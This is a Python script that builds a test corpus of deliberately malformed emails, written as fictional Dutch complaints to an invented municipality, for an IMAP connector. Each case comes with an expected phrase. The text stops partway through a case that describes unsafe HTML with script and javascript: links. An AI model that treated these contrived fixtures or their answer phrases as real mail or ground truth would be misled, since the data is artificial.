#!/usr/bin/env python3
"""Generate the awkward-email test corpus for Signaal's IMAP connector.

Standard library only.  Writes every ``NN-slug.eml`` file plus
``manifest.json`` next to this script, byte-for-byte deterministic:
running it twice yields identical files.

The messages are assembled as raw bytes on purpose.  The ``email`` package's
serializer would "repair" most of the defects this corpus exists to contain
(bad boundaries, raw 8-bit headers, wrong charsets, broken base64, ...).

All names, addresses, phone numbers and events are invented.  Only the
example.nl / example.com / example.org domains are used.

Conventions inside this file
----------------------------
* Templates are written with ``\\n`` line endings; ``build()`` converts them to
  the line ending chosen per message (CRLF or LF -- the corpus mixes both).
* ``str`` chunks must be pure ASCII; non-ASCII text is passed through an
  explicit encoder (``U`` = UTF-8, ``L`` = ISO-8859-1, ``W`` = windows-1252)
  so every byte in a file is a deliberate choice.
* Trailing spaces that matter (``"-- "`` signature separator, format=flowed)
  are written as ``\\x20`` so editors cannot strip them.
"""

from __future__ import annotations

import base64
import hashlib
import json
import quopri
import sys
import textwrap
from pathlib import Path

HERE = Path(__file__).resolve().parent

CRLF = b"\r\n"
LF = b"\n"

# --------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------


def t(s: str) -> str:
    """Dedent a triple-quoted template and drop its first newline."""
    if s.startswith("\n"):
        s = s[1:]
    return textwrap.dedent(s)


def U(s: str) -> bytes:
    return s.encode("utf-8")


def L(s: str) -> bytes:
    return s.encode("iso-8859-1")


def W(s: str) -> bytes:
    return s.encode("cp1252")


def build(*chunks, eol: bytes = CRLF) -> bytes:
    """Concatenate chunks (ASCII str or bytes) and apply the line ending."""
    out = bytearray()
    for c in chunks:
        if isinstance(c, str):
            c = c.encode("ascii")  # non-ASCII must go through U/L/W explicitly
        out += c
    data = bytes(out)
    if eol != LF:
        data = data.replace(LF, eol)
    return data


def b64(data: bytes) -> str:
    """Base64 in 76-character lines, LF separated, trailing newline."""
    return base64.encodebytes(data).decode("ascii")


def qp(data: bytes) -> str:
    """Quoted-printable (76-char lines, soft breaks), trailing newline."""
    out = quopri.encodestring(data).decode("ascii")
    return out if out.endswith("\n") else out + "\n"


def fake_bytes(label: str, n: int) -> bytes:
    """Deterministic pseudo-random bytes (sha256 counter mode)."""
    out = bytearray()
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{label}:{i}".encode()).digest()
        i += 1
    return bytes(out[:n])


# A valid 1x1 PNG and a 1x1 GIF (hard-coded so zlib versions cannot change them).
PNG_1x1 = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR42mP438AAAAQBAYD718vxAAAAAElFTkSuQmCC"
)
GIF_1x1 = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==")

# Fake JPEG: valid SOI/APP0 marker start and EOI end, filler in between.
FAKE_JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + fake_bytes("jpeg", 600)
    + b"\xff\xd9"
)


def fake_pdf(title: str) -> bytes:
    """A tiny, structurally plausible, uncompressed PDF."""
    stream = f"BT /F1 12 Tf 72 720 Td ({title}) Tj ET".encode("ascii")
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, start=1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


GEMEENTE = "Gemeente Voorbeeldstad <info@voorbeeldstad.example.nl>"

# --------------------------------------------------------------------------
# case registry
# --------------------------------------------------------------------------

CASES: list[dict] = []


def case(slug, description, *, automated=False, expect=None, has_html=False, attachments=0):
    def deco(fn):
        CASES.append(
            dict(
                slug=slug,
                fn=fn,
                description=description,
                automated=automated,
                expect=expect,
                has_html=has_html,
                attachments=attachments,
            )
        )
        return fn

    return deco


# ==========================================================================
# 1. Transfer encodings of a simple body
# ==========================================================================


@case(
    "plain-utf8",
    "Plain text/plain UTF-8, 8bit transfer encoding. Dutch complaint about noise.",
    expect="één keer per week",
)
def _():
    return build(
        t("""
        Return-Path: <marieke.voorbeeld@example.com>
        From: Marieke Voorbeeld <marieke.voorbeeld@example.com>
        To: Gemeente Voorbeeldstad <info@voorbeeldstad.example.nl>
        Subject: Klacht over geluidsoverlast Marktplein
        Date: Tue, 03 Nov 2026 09:15:02 +0100
        Message-ID: <20261103091502.4711@mail.example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 8bit

        """),
        U(t("""
        Geachte heer/mevrouw,

        Sinds september wordt er op het Marktplein niet één keer per week maar
        bijna elke avond tot na middernacht harde muziek gedraaid. Ik heb hier
        al twee keer eerder over gebeld (06-12345678), maar er gebeurt niets.

        Ik verzoek u dringend om handhaving.

        Met vriendelijke groet,
        Marieke Voorbeeld
        Voorbeeldstraat 12, 1234 AB Voorbeeldstad
        """)),
    )


@case(
    "quoted-printable-utf8",
    "text/plain UTF-8 in quoted-printable with soft line breaks, =C3=AB style escapes "
    "and a literal '=' encoded as =3D. Expected phrase contains escaped characters.",
    expect="financiële compensatie",
)
def _():
    text = U(
        "Geachte gemeente,\n\n"
        "Door de wegwerkzaamheden aan de Stationsweg is mijn winkel al zes weken "
        "slecht bereikbaar. Ik loop hierdoor veel omzet mis en vraag om een "
        "financiële compensatie. Volgens uw eigen regeling geldt: schade = omzetverlies "
        "min 15% eigen risico. Ik heb de cijfers van oktober bijgevoegd in de tekst "
        "hieronder: €4.250,- omzet tegen €9.800,- vorig jaar.\n\n"
        "Met vriendelijke groet,\nPieter Testerman\nTesterman Rijwielen\n"
    )
    return build(
        t("""
        From: Pieter Testerman <pieter@testerman-rijwielen.example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Verzoek om nadeelcompensatie wegwerkzaamheden
        Date: Wed, 04 Nov 2026 14:02:11 +0100
        Message-ID: <qp-0001@testerman-rijwielen.example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset="UTF-8"
        Content-Transfer-Encoding: quoted-printable

        """),
        qp(text),
        eol=LF,
    )


@case(
    "base64-body",
    "Single-part text/plain UTF-8 body in base64 (76-char lines).",
    expect="parkeervergunning",
)
def _():
    text = U(
        "Beste medewerker,\n\n"
        "Mijn aanvraag voor een parkeervergunning (zaaknummer Z-2026-004711) ligt al "
        "acht weken stil. Ik krijg geen reactie op mijn e-mails. Kunt u mij laten weten "
        "wat de status is? Ik ben bereikbaar op 06-12345678.\n\n"
        "Groet,\nSanne de Proef\n"
    )
    return build(
        t("""
        From: Sanne de Proef <sanne.deproef@example.org>
        To: vergunningen@voorbeeldstad.example.nl
        Subject: Status aanvraag parkeervergunning
        Date: Thu, 05 Nov 2026 08:30:00 +0100
        Message-ID: <b64body.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: base64

        """),
        b64(text),
    )


# ==========================================================================
# 2. Broken / odd MIME structure
# ==========================================================================


@case(
    "multipart-boundary-mismatch",
    "multipart/mixed declares boundary '----=_Part_1234' but the body uses "
    "'----=_Part_1235'. No part is ever found; a robust reader falls back to the raw "
    "body text.",
    expect="lantaarnpaal",
)
def _():
    return build(
        t("""
        From: Henk Testers <h.testers@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Kapotte straatverlichting
        Date: Mon, 02 Nov 2026 21:44:10 +0100
        Message-ID: <mismatch.0001@example.org>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="----=_Part_1234"

        ------=_Part_1235
        Content-Type: text/plain; charset=us-ascii
        Content-Transfer-Encoding: 7bit

        Goedenavond,

        De lantaarnpaal voor huisnummer 7 in de Kerkstraat is al drie weken kapot.
        Het is 's avonds aardedonker en onveilig.

        Henk Testers
        ------=_Part_1235--
        """),
    )


@case(
    "multipart-missing-boundary-param",
    "Content-Type: multipart/mixed without any boundary parameter; the body still "
    "contains MIME-looking parts. A robust reader falls back to the raw body.",
    expect="hondenpoep",
)
def _():
    return build(
        t("""
        From: Noor Jansen <noor.jansen@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Overlast speeltuin
        Date: Tue, 03 Nov 2026 11:00:00 +0100
        Message-ID: <noboundary.0001@example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed

        --000000000000a1b2c3
        Content-Type: text/plain; charset="UTF-8"

        In de speeltuin aan de Lindelaan ligt overal hondenpoep. Mijn kinderen
        kunnen er niet meer spelen. Wanneer wordt er schoongemaakt?

        Noor Jansen
        --000000000000a1b2c3--
        """),
        eol=LF,
    )


@case(
    "multipart-boundary-never-closed",
    "multipart/alternative with plain and HTML parts whose closing '--boundary--' "
    "line is missing (message simply ends).",
    expect="gaten in het fietspad",
    has_html=True,
)
def _():
    return build(
        t("""
        From: Ahmed Voorbeeld <ahmed.v@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Fietspad vol gaten
        Date: Tue, 03 Nov 2026 12:13:14 +0100
        Message-ID: <neverclosed.0001@example.com>
        MIME-Version: 1.0
        Content-Type: multipart/alternative; boundary="b1_open"

        --b1_open
        Content-Type: text/plain; charset=utf-8

        Er zitten grote gaten in het fietspad langs de Rijksweg. Gisteren ben ik
        bijna gevallen. Graag snel repareren.
        --b1_open
        Content-Type: text/html; charset=utf-8

        <html><body><p>Er zitten grote gaten in het fietspad langs de Rijksweg.
        Gisteren ben ik bijna gevallen. Graag snel repareren.</p></body></html>
        """),
    )


@case(
    "false-multipart-no-parts",
    "Declared multipart/mixed with a boundary, but the body is plain text with no "
    "boundary lines at all (e.g. a broken web form mailer).",
    expect="bankje in het park",
)
def _():
    return build(
        t("""
        From: formulier@voorbeeldstad.example.nl
        Reply-To: Kees Proefmans <kees.proefmans@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Melding openbare ruimte
        Date: Wed, 04 Nov 2026 10:20:30 +0100
        Message-ID: <falsemultipart.0001@voorbeeldstad.example.nl>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="=_formmail_9f8e7d"

        Naam: Kees Proefmans
        E-mail: kees.proefmans@example.org
        Telefoon: 06-12345678
        Melding: Het bankje in het park bij de vijver is vernield.
        """),
        eol=LF,
    )


@case(
    "multipart-zero-parts-only-preamble",
    "multipart/mixed where the body has a preamble and then immediately the closing "
    "boundary: zero body parts. There is no real message text (the preamble is the "
    "usual 'This is a multi-part message' filler).",
    expect=None,
)
def _():
    return build(
        t("""
        From: Kees Proefmans <kees.proefmans@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: (geen onderwerp)
        Date: Wed, 04 Nov 2026 10:21:00 +0100
        Message-ID: <zeroparts.0001@example.org>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="zero-parts-boundary"

        This is a multi-part message in MIME format.

        --zero-parts-boundary--
        """),
    )


@case(
    "nested-alternative-in-mixed",
    "multipart/mixed > (multipart/alternative > text/plain + text/html) + PDF "
    "attachment. The classic structure of a client-sent mail with an attachment.",
    expect="bezwaarschrift",
    has_html=True,
    attachments=1,
)
def _():
    return build(
        t("""
        From: Marieke Voorbeeld <marieke.voorbeeld@example.com>
        To: Gemeente Voorbeeldstad <info@voorbeeldstad.example.nl>
        Subject: Bezwaar tegen besluit WOZ-waarde
        Date: Thu, 05 Nov 2026 16:45:00 +0100
        Message-ID: <nested.0001@mail.example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="outer-MIX-7a"

        This is a multi-part message in MIME format.

        --outer-MIX-7a
        Content-Type: multipart/alternative; boundary="inner-ALT-7b"

        --inner-ALT-7b
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 7bit

        Geachte heer/mevrouw,

        Hierbij stuur ik mijn bezwaarschrift tegen de WOZ-beschikking 2026.
        De waarde is veel te hoog vastgesteld.

        Met vriendelijke groet,
        Marieke Voorbeeld

        --inner-ALT-7b
        Content-Type: text/html; charset=utf-8
        Content-Transfer-Encoding: 7bit

        <html><body><p>Geachte heer/mevrouw,</p><p>Hierbij stuur ik mijn bezwaarschrift
        tegen de WOZ-beschikking 2026. De waarde is veel te hoog vastgesteld.</p>
        <p>Met vriendelijke groet,<br>Marieke Voorbeeld</p></body></html>

        --inner-ALT-7b--

        --outer-MIX-7a
        Content-Type: application/pdf; name="bezwaar-woz-2026.pdf"
        Content-Disposition: attachment; filename="bezwaar-woz-2026.pdf"
        Content-Transfer-Encoding: base64

        """),
        b64(fake_pdf("Bezwaar WOZ 2026")),
        "--outer-MIX-7a--\n",
    )


@case(
    "forwarded-inline-rfc822",
    "A citizen forwards an earlier mail as an inline message/rfc822 part "
    "(Content-Disposition: inline). Not counted as an attachment. The inner message "
    "has its own headers and a Latin-1 body. Expected text is from the outer body.",
    expect="zie het doorgestuurde bericht",
)
def _():
    return build(
        t("""
        From: Henk Testers <h.testers@example.org>
        To: klachten@voorbeeldstad.example.nl
        Subject: Fwd: Reactie op melding M-2026-1188
        Date: Fri, 06 Nov 2026 09:01:00 +0100
        Message-ID: <fwd-inline.0001@example.org>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="fwd-inline-boundary"

        --fwd-inline-boundary
        Content-Type: text/plain; charset=utf-8

        Ik ben het niet eens met deze reactie, zie het doorgestuurde bericht.
        Ik wil hier formeel een klacht over indienen.

        Henk

        --fwd-inline-boundary
        Content-Type: message/rfc822
        Content-Disposition: inline

        From: Gemeente Voorbeeldstad <noreply@voorbeeldstad.example.nl>
        To: Henk Testers <h.testers@example.org>
        Subject: Reactie op melding M-2026-1188
        Date: Mon, 02 Nov 2026 15:30:00 +0100
        Message-ID: <reactie-1188@voorbeeldstad.example.nl>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=iso-8859-1
        Content-Transfer-Encoding: 8bit

        """),
        L(t("""
        Geachte heer Testers,

        Uw melding over de boom in de Eikenlaan is afgehandeld. Wij zien geen
        reden om de boom te kappen; hij is gezond volgens onze bomendeskundige.

        Met vriendelijke groet,
        Team Openbare Ruimte
        """)),
        "\n--fwd-inline-boundary--\n",
    )


@case(
    "forwarded-as-attachment-rfc822",
    "A mail forwarded *as attachment*: message/rfc822 part with Content-Disposition: "
    "attachment; filename=\"doorgestuurd.eml\". Counted as 1 attachment. The inner "
    "message is a multipart with its own boundary.",
    expect="als bijlage doorgestuurd",
    attachments=1,
)
def _():
    return build(
        t("""
        From: Sanne de Proef <sanne.deproef@example.org>
        To: klachten@voorbeeldstad.example.nl
        Subject: Fw: Parkeerboete onterecht
        Date: Fri, 06 Nov 2026 10:11:12 +0100
        Message-ID: <fwd-attach.0001@example.org>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="outer-fwd-att"

        --outer-fwd-att
        Content-Type: text/plain; charset=utf-8

        Hierbij het bericht van mijn buurman als bijlage doorgestuurd. Hij heeft
        dezelfde onterechte boete gekregen als ik.

        --outer-fwd-att
        Content-Type: message/rfc822; name="doorgestuurd.eml"
        Content-Disposition: attachment; filename="doorgestuurd.eml"

        From: Joost Dummy <joost.dummy@example.com>
        To: Sanne de Proef <sanne.deproef@example.org>
        Subject: Parkeerboete onterecht
        Date: Thu, 05 Nov 2026 19:00:00 +0100
        Message-ID: <inner.0001@example.com>
        MIME-Version: 1.0
        Content-Type: multipart/alternative; boundary="inner-fwd-alt"

        --inner-fwd-alt
        Content-Type: text/plain; charset=us-ascii

        Ik heb ook een boete gekregen terwijl mijn vergunning gewoon geldig was.

        --inner-fwd-alt--

        --outer-fwd-att--
        """),
    )


@case(
    "multipart-signed-smime",
    "S/MIME multipart/signed: signed text/plain (quoted-printable) plus an "
    "application/pkcs7-signature part 'smime.p7s' (fake bytes). The signature part is "
    "NOT counted as an attachment.",
    expect="ondertekend bericht",
)
def _():
    body = U(
        "Geachte gemeente,\n\n"
        "Dit is een digitaal ondertekend bericht. Ik dien hierbij formeel bezwaar in "
        "tegen de verleende omgevingsvergunning voor de Dorpsstraat 3.\n\n"
        "Met vriendelijke groet,\nmr. A. Voorbeeld-Advocaat\n"
    )
    return build(
        t("""
        From: "mr. A. Voorbeeld-Advocaat" <advocaat@voorbeeld-advocaten.example.com>
        To: bezwaar@voorbeeldstad.example.nl
        Subject: Bezwaar omgevingsvergunning Dorpsstraat 3
        Date: Mon, 09 Nov 2026 08:00:00 +0100
        Message-ID: <signed.0001@voorbeeld-advocaten.example.com>
        MIME-Version: 1.0
        Content-Type: multipart/signed; protocol="application/pkcs7-signature";
         micalg=sha-256; boundary="----SIG_B0UNDARY_42"

        This is an S/MIME signed message

        ------SIG_B0UNDARY_42
        Content-Type: text/plain; charset="utf-8"
        Content-Transfer-Encoding: quoted-printable

        """),
        qp(body),
        t("""

        ------SIG_B0UNDARY_42
        Content-Type: application/pkcs7-signature; name="smime.p7s"
        Content-Transfer-Encoding: base64
        Content-Disposition: attachment; filename="smime.p7s"

        """),
        # DER SEQUENCE + pkcs7-signedData OID, then filler
        b64(
            b"\x30\x82\x04\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02"
            + fake_bytes("p7s", 700)
        ),
        "\n------SIG_B0UNDARY_42--\n",
    )


# ==========================================================================
# 3. Charset trouble
# ==========================================================================


@case(
    "undeclared-latin1-charset",
    "No Content-Type header at all (defaults to us-ascii) but the body contains raw "
    "ISO-8859-1 bytes (0xEB = e-diaeresis, 0xE9 = e-acute). Decoder must fall back "
    "to latin-1/cp1252.",
    expect="ik ben geërgerd",
)
def _():
    return build(
        t("""
        From: Kees Proefmans <kees.proefmans@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Klacht over afvalinzameling
        Date: Tue, 03 Nov 2026 07:59:00 +0100
        Message-ID: <latin1-undeclared.0001@example.org>

        """),
        L(t("""
        Al voor de derde keer is mijn container niet geleegd en ik ben geërgerd.
        Het café op de hoek heeft er geen last van, waarom ik wel?

        Kees
        """)),
    )


@case(
    "declared-utf8-actually-cp1252",
    "Declares charset=utf-8 but the 8bit body is windows-1252: 0x80 (euro sign) and "
    "0xEB (e-diaeresis) are invalid UTF-8. Decoder must detect the failure and fall "
    "back to cp1252 (latin-1 would turn 0x80 into a control character).",
    expect="€ 95,00",
)
def _():
    return build(
        t("""
        From: Joost Dummy <joost.dummy@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Onterechte naheffingsaanslag
        Date: Wed, 04 Nov 2026 18:22:00 +0100
        Message-ID: <wrong-utf8.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 8bit

        """),
        W(t("""
        Geachte heer, mevrouw,

        Ik heb een naheffingsaanslag van € 95,00 ontvangen, terwijl de
        parkeerautomaat defect was. Dit is geënsceneerd onrecht!

        Joost Dummy
        """)),
        eol=LF,
    )


@case(
    "declared-latin1-actually-utf8",
    "Declares charset=iso-8859-1 but the body is UTF-8 (multi-byte sequences such as "
    "C3 AB). Read literally it gives mojibake ('geÃ«migreerd'); a correct decoder "
    "prefers UTF-8 when the bytes are valid UTF-8 containing multi-byte sequences.",
    expect="geëmigreerde",
)
def _():
    return build(
        t("""
        From: Fatima Voorbeeld <fatima.voorbeeld@example.com>
        To: burgerzaken@voorbeeldstad.example.nl
        Subject: Inschrijving BRP
        Date: Wed, 04 Nov 2026 13:00:00 +0100
        Message-ID: <wrong-latin1.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset="iso-8859-1"
        Content-Transfer-Encoding: 8bit

        """),
        U(t("""
        Goedemiddag,

        Mijn geëmigreerde zoon staat nog steeds ingeschreven op mijn adres.
        Daardoor betaal ik te veel gemeentelijke belastingen. Kunt u dit corrigeren?

        Fatima Voorbeeld
        """)),
    )


@case(
    "unknown-charset-name",
    "charset=x-unknown-foo (not a known codec). Body is actually UTF-8. Decoder must "
    "not crash on the LookupError and should fall back to UTF-8.",
    expect="Wij zijn zeer ontevreden",
)
def _():
    return build(
        t("""
        From: Bewonerscommissie De Eik <commissie@de-eik.example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Renovatie flat De Eik
        Date: Thu, 05 Nov 2026 20:00:00 +0100
        Message-ID: <unknowncharset.0001@de-eik.example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset="x-unknown-foo"
        Content-Transfer-Encoding: 8bit

        """),
        U(t("""
        Wij zijn zeer ontevreden over de communicatie rond de renovatie.
        Bewoners van 75+ zijn niet geïnformeerd over de stroomonderbreking.

        Namens de bewonerscommissie,
        R. Voorbeeld
        """)),
        eol=LF,
    )


@case(
    "windows-1252-smart-quotes",
    "Correctly declared charset=windows-1252 in quoted-printable with curly quotes "
    "(=93 =94 =91 =92), en dash (=96), ellipsis (=85) and euro (=80).",
    expect="\u201conacceptabel\u201d",
)
def _():
    text = W(
        "Geachte heer Testers,\n\n"
        "Uw reactie noem ik \u201conacceptabel\u201d \u2013 u schrijft dat het \u2018binnen de "
        "norm\u2019 valt\u2026 Maar ik betaal \u20ac 320 per jaar aan afvalstoffenheffing!\n\n"
        "Met vriendelijke groet,\nFatima Voorbeeld\n"
    )
    return build(
        t("""
        From: Fatima Voorbeeld <fatima.voorbeeld@example.com>
        To: "Testers, Henk" <h.testers@voorbeeldstad.example.nl>
        Subject: RE: Uw melding over zwerfafval
        Date: Fri, 06 Nov 2026 11:11:11 +0100
        Message-ID: <smartquotes.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset="Windows-1252"
        Content-Transfer-Encoding: quoted-printable

        """),
        qp(text),
    )


@case(
    "latin1-label-with-cp1252-quotes",
    "Declares charset=iso-8859-1 (as old Outlook does) but uses cp1252-only bytes "
    "0x93/0x94 (curly quotes) and 0x80 (euro) in an 8bit body. Per the WHATWG "
    "encoding standard an iso-8859-1 label must be decoded as windows-1252.",
    expect="\u201cvergeten\u201d",
)
def _():
    return build(
        t("""
        From: Pieter Testerman <pieter@testerman-rijwielen.example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Marktgeld
        Date: Fri, 06 Nov 2026 12:00:00 +0100
        Message-ID: <latin1label.0001@testerman-rijwielen.example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset="iso-8859-1"
        Content-Transfer-Encoding: 8bit

        """),
        W(t("""
        U bent mijn betaling van \u20ac 45 marktgeld \u201cvergeten\u201d te verwerken.
        Nu krijg ik een aanmaning. Graag rechtzetten.
        """)),
    )


@case(
    "utf16-body",
    "text/plain; charset=utf-16 with a BOM, base64 encoded (some mobile/desktop "
    "clients and scanners do this).",
    expect="geluidsmeting",
)
def _():
    text = (
        "Geachte gemeente,\r\n\r\n"
        "Ik vraag om een geluidsmeting bij de nieuwe windturbine.\r\n\r\n"
        "Groet, Noor\r\n"
    )
    return build(
        t("""
        From: Noor Jansen <noor.jansen@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Windturbine
        Date: Sat, 07 Nov 2026 09:09:09 +0100
        Message-ID: <utf16.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset="utf-16"
        Content-Transfer-Encoding: base64

        """),
        b64(text.encode("utf-16")),  # utf-16 codec writes a little-endian BOM
        eol=LF,
    )


# ==========================================================================
# 4. Raw 8-bit and RFC 2047 in headers
# ==========================================================================


@case(
    "raw-utf8-in-headers",
    "Raw (unencoded) UTF-8 bytes in Subject, From display name and an SMTPUTF8 local "
    "part ('josé@example.com'). Expected Subject: 'Klacht – café De Gouden Leeuw "
    "veroorzaakt overlast'; From name 'Renée Voorbeeld-Müller'.",
    expect="terras tot 02:00",
)
def _():
    return build(
        U(t("""
        From: Renée Voorbeeld-Müller <renee@example.com>
        Cc: José Proef <josé@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Klacht – café De Gouden Leeuw veroorzaakt overlast
        Date: Sat, 07 Nov 2026 23:59:00 +0100
        Message-ID: <rawutf8hdr.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 8bit

        Het café heeft elk weekend het terras tot 02:00 open. Dat mag niet
        volgens de APV. Kunt u handhaven?

        Renée
        """)),
    )


@case(
    "raw-latin1-in-headers",
    "Raw ISO-8859-1 bytes (0xE9, 0xEB) in Subject and From display name, no "
    "encoded words. Expected Subject: 'Geërgerd over café-terras'; From name "
    "'Renée Voorbeeld'. Body is correctly declared iso-8859-1.",
    expect="Geachte wethouder",
)
def _():
    return build(
        L(t("""
        From: Renée Voorbeeld <renee@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Geërgerd over café-terras
        Date: Sun, 08 Nov 2026 10:00:00 +0100
        Message-ID: <rawlatin1hdr.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=iso-8859-1
        Content-Transfer-Encoding: 8bit

        Geachte wethouder,

        Het terras van het café staat half op de stoep. Met een rollator kom ik
        er niet langs. Wilt u hier iets aan doen?

        Renée
        """)),
        eol=LF,
    )


@case(
    "rfc2047-q-encoding",
    "RFC 2047 Q-encoded Subject (UTF-8, underscores as spaces, en dash) and Q-encoded "
    "ISO-8859-1 From display name. Expected Subject: 'Klacht over stank bij de "
    "vuilstortplaats – dringend'; From name 'Renée Voorbeeld'.",
    expect="stank",
)
def _():
    return build(
        t("""
        From: =?iso-8859-1?Q?Ren=E9e_Voorbeeld?= <renee@example.com>
        To: =?utf-8?Q?Gemeente_Voorbeeldstad?= <info@voorbeeldstad.example.nl>
        Subject: =?utf-8?Q?Klacht_over_stank_bij_de_vuilstortplaats_=E2=80=93_dringend?=
        Date: Mon, 09 Nov 2026 07:45:00 +0100
        Message-ID: <rfc2047q.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii

        De stank van de vuilstortplaats is sinds maandag ondraaglijk.
        Ramen kunnen niet meer open.
        """),
    )


@case(
    "rfc2047-b-encoding",
    "RFC 2047 B-encoded Subject and From display name (UTF-8), plus B-encoded word "
    "in To. Expected Subject: 'Bezwaar tegen parkeerbeleid – Prinsengracht €€€'; "
    "From name 'Zoë van der Proef'.",
    expect="parkeertarieven",
)
def _():
    def bw(s):
        return "=?UTF-8?B?" + base64.b64encode(U(s)).decode() + "?="

    return build(
        "From: " + bw("Zoë van der Proef") + " <zoe@example.org>\n",
        "To: " + bw("Afdeling Parkeren – Gemeente") + " <parkeren@voorbeeldstad.example.nl>\n",
        "Subject: " + bw("Bezwaar tegen parkeerbeleid – Prinsengracht €€€") + "\n",
        t("""
        Date: Mon, 09 Nov 2026 08:15:00 +0100
        Message-ID: <rfc2047b.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 8bit

        """),
        U("De nieuwe parkeertarieven zijn voor bewoners onbetaalbaar.\n"),
        eol=LF,
    )


@case(
    "rfc2047-adjacent-and-split",
    "Subject made of several adjacent encoded words folded over multiple lines "
    "(whitespace between them must be dropped), mixing Q and B, mixing UTF-8 and "
    "ISO-8859-1, and one UTF-8 character (ë = C3 AB) split across two encoded words "
    "(technically invalid, common in practice). Expected Subject: 'Bezwaar tegen de "
    "kapvergunning voor de eik – ik ben geërgerd, café'.",
    expect="honderd jaar oud",
)
def _():
    return build(
        t("""
        From: Henk Testers <h.testers@example.org>
        To: bezwaar@voorbeeldstad.example.nl
        Subject: =?UTF-8?Q?Bezwaar_tegen_?=
         =?UTF-8?Q?de_kapvergunning_?=
        \t=?UTF-8?B?dm9vciBkZSBlaWsg4oCTIA==?= =?UTF-8?Q?ik_ben_ge=C3?=
         =?UTF-8?Q?=ABrgerd,_?= =?ISO-8859-1?Q?caf=E9?=
        Date: Mon, 09 Nov 2026 09:30:00 +0100
        Message-ID: <rfc2047split.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii

        De eik in de Eikenlaan is meer dan honderd jaar oud en mag niet gekapt worden.
        """),
    )


@case(
    "rfc2047-malformed",
    "Malformed encoded words: Subject has an encoded word glued to the next without "
    "whitespace, an unknown charset (x-unknown), bad base64 padding and an "
    "unterminated word; From display name is an encoded word inside a quoted string; "
    "X-Custom has an unknown encoding letter (?X?). Decoder must not crash; any "
    "reasonable best-effort subject is acceptable.",
    expect="bushalte",
)
def _():
    return build(
        t("""
        From: "=?utf-8?Q?Jan_Voorbe=C3=ABld?=" <jan.voorbeeld@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Re: =?utf-8?B?S2xhY2h0IG92ZXIgZGUgYnVz?==?utf-8?Q?halte_?=zonder
         spatie =?x-unknown?Q?caf=E9?= =?utf-8?B?SGFsbG8gd2VyZWxk?= =?utf-8?Q?niet_afgesloten
        X-Custom: =?utf-8?X?onbekende_codering?=
        Date: Mon, 09 Nov 2026 10:00:00 +0100
        Message-ID: <rfc2047bad.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        De bushalte bij het gemeentehuis heeft al maanden geen abri meer.
        """),
    )


# ==========================================================================
# 5. HTML
# ==========================================================================


@case(
    "html-only-unsafe",
    "Single-part text/html (quoted-printable) with <style>, <script>, a table, a 1x1 "
    "tracking pixel, a javascript: link, an iframe and an onload handler. For the "
